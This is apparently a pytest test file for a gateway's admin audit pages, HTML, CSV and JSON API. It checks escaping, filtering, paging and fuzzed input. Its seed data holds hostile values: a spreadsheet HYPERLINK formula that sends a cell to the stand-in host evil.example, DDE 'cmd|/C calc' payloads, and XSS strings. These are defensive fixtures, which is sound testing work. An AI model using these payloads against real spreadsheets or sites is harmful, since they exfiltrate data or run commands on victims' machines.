"""Admin audit pages: /audit, /audit.csv and /api/audit over a real seeded audit trail."""

from __future__ import annotations

import csv
import html
import io
import re
import uuid
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any, get_args

import httpx
import pytest
import pytest_asyncio
import sqlalchemy
from hypothesis import given, settings
from hypothesis import strategies as st

from kmsgate.access.audit_csv import CSV_COLUMNS, csv_cell
from kmsgate.store.audit import AUDIT_KINDS, AuditEvent
from kmsgate.store.database import Store
from kmsgate.web.filters import AuditKind
from tests.support.browser import NODE, NOW, login
from tests.web.test_portal import (
    PEER,
    USER,
    client_from,
    make_gateway,
    make_portal_app,
    open_portal_store,
    portal_env,
    portal_login,
)

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.integration]

T0 = NOW - timedelta(days=3)
USERS = ("alice", "bob", "carol")
SCANNER = "198.51.100.66"
N_SCANS = 1050  # more than one CSV batch
EVIL_USER = '=HYPERLINK("http://evil.example/?"&A1)'
XSS_USER = "<img src=x onerror=alert(1)>"
EVIL_CMID = uuid.UUID("22222222-3333-4444-8555-666666666666")


# The kinds the seed cycles through, fixed so that new kinds do not reshuffle the counts below.
SEED_KINDS = (*AUDIT_KINDS[:7], "connection_refused", "activation")


def seed_events() -> list[AuditEvent]:
    """30 mixed events of three users, two hostile ones, and a port scanner's refusals."""
    events = [
        AuditEvent(
            time=T0 + timedelta(hours=i),
            kind=SEED_KINDS[i % len(SEED_KINDS)],
            node=NODE,
            username=USERS[i % 3],
            address=f"10.0.0.{i % 5 + 1}",
            backend="local",
            window_id=i,
            detail=f"event {i}",
        )
        for i in range(30)
    ]
    events.append(
        AuditEvent(
            time=T0 + timedelta(hours=40),
            kind="activation",
            node=NODE,
            username=EVIL_USER,
            address="10.0.0.9",
            window_id=99,
            cmid=EVIL_CMID,
            machine_name="@SUM(1+1)*cmd|' /C calc'!A0",
            product="-2+3",
            result="activated",
            detail="+cmd|' /C calc'!A0",
        )
    )
    events.append(
        AuditEvent(
            time=T0 + timedelta(hours=41),
            kind="login_failed",
            node=NODE,
            username=XSS_USER,
            address="10.0.0.9",
            detail='<script>alert("detail")</script>',
        )
    )
    events += [
        AuditEvent(
            time=T0 - timedelta(days=1) + timedelta(seconds=i),
            kind="connection_refused",
            node="node-b",
            address=SCANNER,
            detail="no open activation window",
        )
        for i in range(N_SCANS)
    ]
    # The trail is appended as things happen: ids grow with time.
    return sorted(events, key=lambda e: e.time)


N_EVENTS = 32 + N_SCANS


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def seeded(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Store]:
    """A store with the seeded audit trail (read-only for the tests that use it)."""
    store = await open_portal_store(tmp_path_factory.mktemp("audit"))
    gateway = make_gateway(store)
    await gateway.store.add_audit(seed_events())
    yield store
    await store.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def admin(seeded: Store) -> AsyncIterator[httpx.AsyncClient]:
    """A logged-in admin client of a gateway-mode app over the seeded store."""
    app = make_portal_app(seeded, make_gateway(seeded))
    async with client_from(app) as client:
        assert (await login(client)).status_code == 303
        yield client


@pytest_asyncio.fixture(autouse=True, loop_scope="module")
async def only_the_seeded_trail(seeded: Store) -> None:
    """The tests' own dashboard logins are audited too: take them out of the seeded trail."""
    async with seeded.engine.begin() as conn:
        await conn.execute(sqlalchemy.text("DELETE FROM audit_events WHERE backend = 'dashboard'"))


@pytest_asyncio.fixture(loop_scope="module")
async def anon(seeded: Store) -> AsyncIterator[httpx.AsyncClient]:
    """An anonymous client of the same app."""
    async with client_from(make_portal_app(seeded, make_gateway(seeded))) as client:
        yield client


def rows(text: str) -> list[str]:
    body = text.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return re.findall(r"<tr>.*?</tr>", body, flags=re.S)


def rel(text: str, name: str) -> str | None:
    found = re.findall(rf'href="([^"]*)" rel="{name}"', text)
    return html.unescape(found[0]) if found else None


async def get_page(client: httpx.AsyncClient, url: str, **params: Any) -> str:
    # httpx replaces a URL's own query with params, even an empty dict.
    response = await client.get(url, params=params or None)
    assert response.status_code == 200, (url, params, response.text[-800:])
    return response.text


async def all_api(client: httpx.AsyncClient, **params: Any) -> list[dict[str, Any]]:
    """Every event of a filter via /api/audit, following next_cursor."""
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        query = {**params, "limit": 500, **({"cursor": cursor} if cursor else {})}
        response = await client.get("/api/audit", params=query)
        assert response.status_code == 200, response.text
        body = response.json()
        items += body["items"]
        cursor = body["next_cursor"]
        if cursor is None:
            return items


async def test_kinds_match_the_store() -> None:
    assert set(get_args(AuditKind)) == set(AUDIT_KINDS)


async def test_audit_needs_an_admin(anon: httpx.AsyncClient) -> None:
    for path in ("/audit?user=alice", "/audit.csv"):
        response = await anon.get(path)
        assert response.status_code == 303
        assert response.headers["location"].startswith("/login?next=%2Faudit")
    api = await anon.get("/api/audit")
    assert api.status_code == 401 and api.json()["detail"].startswith("authentication required")


async def test_audit_page_lists_and_escapes(admin: httpx.AsyncClient) -> None:
    text = await get_page(admin, "/audit")
    assert "<h1>Audit trail</h1>" in text
    assert '<a href="/audit" aria-current="page">Audit</a>' in text
    assert len(rows(text)) == 50
    first = rows(text)[0]  # newest first
    assert "login failed" in first and "10.0.0.9" in first
    assert XSS_USER not in text and html.escape(XSS_USER, quote=False) in text
    assert "<script>alert" not in text
    assert f'href="/clients/{EVIL_CMID}"' in text
    # Cells link to the matching filter.
    assert 'href="/audit?user=alice"' in text
    assert 'href="/audit?address=10.0.0.9"' in text
    assert 'href="/audit?kind=activation"' in text
    assert 'href="/audit.csv"' in text and rel(text, "next")


async def test_audit_filters(admin: httpx.AsyncClient) -> None:
    alice = rows(await get_page(admin, "/audit", user="alice"))
    assert len(alice) == 10 and all(">alice</a>" in r for r in alice)
    by_address = rows(await get_page(admin, "/audit", address="10.0.0.2"))
    assert len(by_address) == 6
    kind = rows(await get_page(admin, "/audit", kind="activation"))
    assert len(kind) == 4 and all("activation" in r for r in kind)
    since, until = (T0 + timedelta(hours=10)).isoformat(), (T0 + timedelta(hours=20)).isoformat()
    ranged = await get_page(admin, "/audit", since=since, until=until)
    assert len(rows(ranged)) == 10
    assert 'value="2024-05-03T22:30:00"' in ranged  # the form keeps the filter (UTC)
    expected = [
        e.detail for e in seed_events() if e.username == "bob" and e.kind == "window_granted"
    ]
    both = rows(await get_page(admin, "/audit", user="bob", kind="window_granted"))
    assert len(both) == len(expected) == 3
    assert [re.findall(r"event \d+", r)[0] for r in both] == expected[::-1]
    assert 'value="alice"' in await get_page(admin, "/audit", user=" alice ")
    nothing = await get_page(admin, "/audit", user="nobody")
    assert "No audit events match these filters" in nothing
    # The filter form as a browser sends it with blank fields.
    blank = await admin.get("/audit?user=&address=&kind=&since=&until=")
    assert blank.status_code == 200 and len(rows(blank.text)) == 50
    activations = await admin.get("/activations?since=&until=&result=&node=")
    assert activations.status_code == 200


async def test_audit_paging(admin: httpx.AsyncClient) -> None:
    url: str | None = "/audit?address=" + SCANNER + "&limit=400"
    seen: list[str] = []
    pages = 0
    while url:
        text = await get_page(admin, url)
        if pages:
            assert rel(text, "first") == f"/audit?address={SCANNER}&limit=400"
        seen += [re.findall(r'datetime="([^"]+)"', r)[0] for r in rows(text)]
        url = rel(text, "next")
        pages += 1
    assert pages == 3 and len(seen) == N_SCANS == len(set(seen))
    assert seen == sorted(seen, reverse=True)
    # A cursor belongs to its filter.
    first = (await admin.get("/api/audit", params={"address": SCANNER, "limit": 5})).json()
    moved = await admin.get("/api/audit", params={"cursor": first["next_cursor"]})
    assert moved.status_code == 400 and "cursor" in moved.json()["detail"]
    html_moved = await admin.get("/audit", params={"cursor": first["next_cursor"]})
    assert html_moved.status_code == 400 and "Start again from page one" in html_moved.text


async def test_audit_csv(admin: httpx.AsyncClient) -> None:
    response = await admin.get("/audit.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="kmsgate-audit.csv"'
    table = list(csv.reader(io.StringIO(response.text)))
    assert table[0] == list(CSV_COLUMNS)
    assert len(table) == 1 + N_EVENTS
    records = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in table[1:]]
    ids = [int(r["id"]) for r in records]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == N_EVENTS
    evil = next(r for r in records if r["cmid"] == str(EVIL_CMID))
    # Formula-like cells are defused with a leading quote; everything else is verbatim.
    assert evil["username"] == "'" + EVIL_USER
    assert evil["detail"] == "'+cmd|' /C calc'!A0"
    assert evil["machine_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert evil["product"] == "'-2+3"
    assert evil["time"] == (T0 + timedelta(hours=40)).isoformat().replace("+00:00", "Z")
    assert evil["kind"] == "activation" and evil["result"] == "activated"
    assert evil["window_id"] == "99" and evil["backend"] == ""
    assert not any(cell[:1] in "=+-@" and cell for r in table[1:] for cell in r)

    filtered = await admin.get("/audit.csv", params={"user": "alice", "kind": "login_ok"})
    lines = list(csv.reader(io.StringIO(filtered.text)))
    expected = [e for e in seed_events() if e.username == "alice" and e.kind == "login_ok"]
    assert len(lines) == 1 + len(expected) == 5
    assert {line[CSV_COLUMNS.index("username")] for line in lines[1:]} == {"alice"}
    empty = await admin.get("/audit.csv", params={"user": "nobody"})
    assert empty.text == ",".join(CSV_COLUMNS) + "\r\n"
    bad = await admin.get("/audit.csv", params={"kind": "bogus"})
    assert bad.status_code == 422


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (5, "5"),
    ],
)
async def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


async def test_api_audit(admin: httpx.AsyncClient) -> None:
    page = (await admin.get("/api/audit", params={"limit": 3})).json()
    assert len(page["items"]) == 3 and page["next_cursor"]
    item = page["items"][0]
    assert set(item) == {
        "id", "time", "kind", "node", "username", "address", "backend", "window_id", "cmid",
        "machine_name", "product", "result", "detail", "count",
    }  # fmt: skip
    assert item["username"] == XSS_USER and item["time"].endswith("Z")
    everything = await all_api(admin)
    assert len(everything) == N_EVENTS
    scans = await all_api(admin, kind="connection_refused", address=SCANNER)
    assert len(scans) == N_SCANS and {e["node"] for e in scans} == {"node-b"}
    evil = await all_api(admin, user=EVIL_USER)
    assert len(evil) == 1 and evil[0]["cmid"] == str(EVIL_CMID)
    for params, status in [
        ({"kind": "bogus"}, 422),
        ({"limit": "0"}, 422),
        ({"limit": "501"}, 422),
        ({"user": "a\x00b"}, 422),
        ({"address": "x" * 101}, 422),
        ({"since": "2024-05-02", "until": "2024-05-01"}, 400),
        ({"cursor": "garbage"}, 400),
        ({"since": "0001-01-01T00:00:00+14:00"}, 400),
    ]:
        response = await admin.get("/api/audit", params=params)
        assert response.status_code == status, (params, response.text)


async def test_portal_logins_reach_the_audit_page(tmp_path: Path) -> None:
    async with portal_env(tmp_path) as env:
        assert (await portal_login(env.client, password="wrong")).status_code == 401
        assert (await portal_login(env.client)).status_code == 200
        await env.gateway.audit.flush()
        assert (await login(env.client)).status_code == 303
        text = await get_page(env.client, "/audit", user=USER)
        kinds = [re.findall(r'kind=(\w+)"', r)[0] for r in rows(text)]
        assert kinds == ["window_granted", "login_ok", "login_failed"]
        assert all(PEER in r for r in rows(text))
        assert "wrong password" in text


text = st.text(max_size=60)
VALID: dict[str, st.SearchStrategy[str]] = {
    "user": st.one_of(st.sampled_from(USERS), text),
    "address": st.one_of(st.sampled_from(["10.0.0.1", SCANNER]), text),
    "kind": st.sampled_from(AUDIT_KINDS),
    "since": st.one_of(st.datetimes().map(lambda d: d.isoformat()), text),
    "until": st.one_of(st.datetimes().map(lambda d: d.isoformat()), text),
    "cursor": st.one_of(st.sampled_from(["", "x", "eyJ9"]), text),
    "limit": st.one_of(st.integers(-5, 600).map(str), text),
    "other": text,
}


@pytest.mark.parametrize("path", ["/audit", "/api/audit", "/audit.csv"])
@settings(max_examples=40, deadline=None)
@given(data=st.data())
async def test_fuzzed_audit_queries_never_500(
    admin: httpx.AsyncClient, path: str, data: st.DataObject
) -> None:
    params = data.draw(st.fixed_dictionaries({}, optional=VALID), label="params")
    response = await admin.get(path, params=params)
    assert response.status_code < 500, (path, params, response.text[-500:])
